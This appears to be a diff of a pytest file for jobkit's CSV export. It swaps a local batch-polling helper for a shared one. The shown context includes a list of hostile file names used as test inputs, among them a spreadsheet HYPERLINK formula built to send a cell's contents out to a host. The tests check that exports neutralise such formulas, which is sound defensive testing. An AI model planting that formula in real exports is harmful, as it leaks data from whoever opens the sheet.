@@ -9,7 +9,6 @@ import base64
 import csv
 import io
 import re
-import time
 import zipfile
 
 import pytest
@@ -19,6 +18,7 @@ from jobkit.batch.outputs import CsvOutput
 from jobkit.cli.commands import cli
 from jobkit.output.csv_format import SafeDictWriter, spreadsheet_safe
 from jobkit.web import create_app
+from tests.helpers import wait_for_batch
 
 HOSTILE_NAMES = [
     '=HYPERLINK(CONCATENATE("http:",CHAR(47),CHAR(47),"host?leak=",B2),"Open resume").txt',
@@ -186,14 +186,6 @@ def test_report_page_csv_download(client, name):
     assert row["file"] == "'" + name
 
 
-def _wait(client, url, timeout=60):
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
-        status = client.get(url + "/status.json").get_json()
-        if status["state"] not in ("queued", "running"):
-            return status
-        time.sleep(0.2)
-    raise AssertionError("the batch did not finish")
 
 
 @pytest.mark.parametrize("name", HOSTILE_NAMES)
@@ -205,7 +197,7 @@ def test_batch_page_csv(client, name):
                                            "pages": "1"}, content_type="multipart/form-data")
     assert started.status_code == 302, started.get_data(as_text=True)[:500]
     url = started.headers["Location"]
-    assert _wait(client, url)["state"] == "done"
+    assert wait_for_batch(client, url)["state"] == "done"
     response = client.get(url + "/results.csv")
     assert response.status_code == 200
     rows = _by_file(response.get_data(as_text=True))
